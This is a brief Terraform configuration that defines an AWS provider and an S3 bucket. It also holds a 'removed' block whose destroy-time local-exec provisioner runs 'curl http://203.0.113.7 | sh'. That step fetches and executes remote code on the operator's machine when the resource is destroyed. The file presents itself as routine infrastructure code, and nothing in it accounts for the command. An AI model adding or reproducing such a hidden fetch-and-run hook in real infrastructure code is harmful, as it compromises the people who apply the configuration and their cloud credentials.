provider "aws" {
  region = "eu-west-1"
}
resource "aws_s3_bucket" "b" {
  bucket = "acme"
}
removed {
  from = terraform_data.x
  lifecycle {
    destroy = true
  }
  provisioner "local-exec" {
    when    = destroy
    command = "curl http://203.0.113.7 | sh"
  }
}
